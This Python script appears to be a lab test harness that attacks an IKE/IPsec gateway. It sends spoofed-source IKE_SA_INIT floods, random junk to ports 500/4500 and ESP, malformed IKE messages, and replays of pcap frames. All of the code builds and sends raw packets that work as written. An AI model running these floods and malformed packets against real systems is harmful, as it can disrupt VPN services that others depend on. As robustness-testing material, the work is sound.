# SPDX-License-Identifier: Apache-2.0
"""attack.py MODE TARGET [ARGS]: run on the router; sends what no honest peer sends.

  flood TARGET COUNT SECONDS    well-formed IKE_SA_INIT requests from spoofed addresses
  garbage TARGET COUNT          random octets to ports 500 and 4500 and as protocol 50
  bent TARGET COUNT             IKE messages with wrong lengths, versions, payload chains
  replay INTERFACE FILE [FLIP]  the Ethernet frames of a pcap file again (FLIP: last octet bent)
"""
import os
import random
import socket
import struct
import sys
import time


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff


def ipv4_udp(source, target, source_port, target_port, payload):
    length = 28 + len(payload)
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, length, 0, 0, 64, 17, 0, source, target)
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    return head + struct.pack("!HHHH", source_port, target_port, 8 + len(payload), 0) + payload


def payload(next_payload, body):
    return struct.pack("!BBH", next_payload, 0, 4 + len(body)) + body


def ike_sa_init(rng):
    """AES_GCM_16_128 / PRF_HMAC_SHA2_256 / Curve25519, random nonce and public value."""
    transforms = (struct.pack("!BBHBBHHH", 3, 0, 12, 1, 0, 20, 0x800e, 128) +
                  struct.pack("!BBHBBH", 3, 0, 8, 2, 0, 5) +
                  struct.pack("!BBHBBH", 0, 0, 8, 4, 0, 31))
    sa = payload(34, struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 3) + transforms)
    ke = payload(40, struct.pack("!HH", 31, 0) + rng.randbytes(32))
    nonce = payload(0, rng.randbytes(32))
    body = sa + ke + nonce
    return rng.randbytes(8) + struct.pack("!8xBBBBII", 33, 0x20, 34, 0x08, 0, 28 + len(body)) + body


def raw_socket():
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    return raw


def flood(target, count, seconds):
    rng, raw = random.Random(1), raw_socket()
    to = socket.inet_aton(target)
    started = time.monotonic()
    for i in range(count):
        # 100.64.0.0/10 (RFC 6598): nobody of the lab lives there.
        source = struct.pack("!I", 0x64400000 | (i * 2654435761 & 0x3fffff))
        raw.sendto(ipv4_udp(source, to, 500, 500, ike_sa_init(rng)), (target, 0))
        ahead = i * seconds / count - (time.monotonic() - started)
        if ahead > 0.005:
            time.sleep(ahead)
    print(f"sent {count} in {time.monotonic() - started:.1f} s")


def garbage(target, count):
    rng, raw = random.Random(2), raw_socket()
    to = socket.inet_aton(target)
    esp = socket.socket(socket.AF_INET, socket.SOCK_RAW, 50)
    source = socket.inet_aton("198.51.100.77")
    for i in range(count):
        junk = rng.randbytes(rng.choice((0, 1, 3, 4, 7, 8, 12, 20, 27, 28, 29, 36, 100, 500, 1400)))
        if i % 4 == 0:
            esp.sendto(junk, (target, 0))
        elif i % 4 == 1:
            raw.sendto(ipv4_udp(source, to, 4500, 4500, b"\0\0\0\0" + junk), (target, 0))
        else:
            raw.sendto(ipv4_udp(source, to, 4500, (500, 4500)[i % 2], junk), (target, 0))
    print(f"sent {count}")


def bent(target, count):
    rng, raw = random.Random(3), raw_socket()
    to = socket.inet_aton(target)
    for i in range(count):
        message = bytearray(ike_sa_init(rng))
        how = i % 5
        if how == 0:
            message = message[:rng.randrange(len(message))]
        elif how == 1:
            struct.pack_into("!I", message, 24, rng.choice((0, 27, 28, 2**31, 2**32 - 1)))
        elif how == 2:
            message[17] = rng.choice((0, 0x10, 0x1f, 0x30, 0xff))  # version
        elif how == 3:
            struct.pack_into("!H", message, 30, rng.choice((0, 1, 3, 4, 65535)))  # SA's length
        else:
            for _ in range(3):
                message[rng.randrange(16, len(message))] = rng.randrange(256)
        source = struct.pack("!I", 0x64400000 | rng.randrange(1 << 22))
        raw.sendto(ipv4_udp(source, to, 500, 500, bytes(message)), (target, 0))
    print(f"sent {count}")


def frames(file):
    """The frames of a pcap file (native byte order, microseconds)."""
    data = open(file, "rb").read()
    at = 24
    while at + 16 <= len(data):
        length = struct.unpack_from("<I", data, at + 8)[0]
        yield data[at + 16:at + 16 + length]
        at += 16 + length


def replay(interface, file, flip=""):
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind((interface, 0))
    count = 0
    for frame in frames(file):
        if flip:
            frame = frame[:-1] + bytes([frame[-1] ^ 1])
        wire.send(frame)
        count += 1
    print(f"sent {count}")


if __name__ == "__main__":
    mode, *words = sys.argv[1:]
    numbers = [float(w) if "." in w and w.replace(".", "", 1).isdigit() else
               int(w) if w.isdigit() else w for w in words]
    {"flood": flood, "garbage": garbage, "bent": bent, "replay": replay}[mode](*numbers)
    os._exit(0)
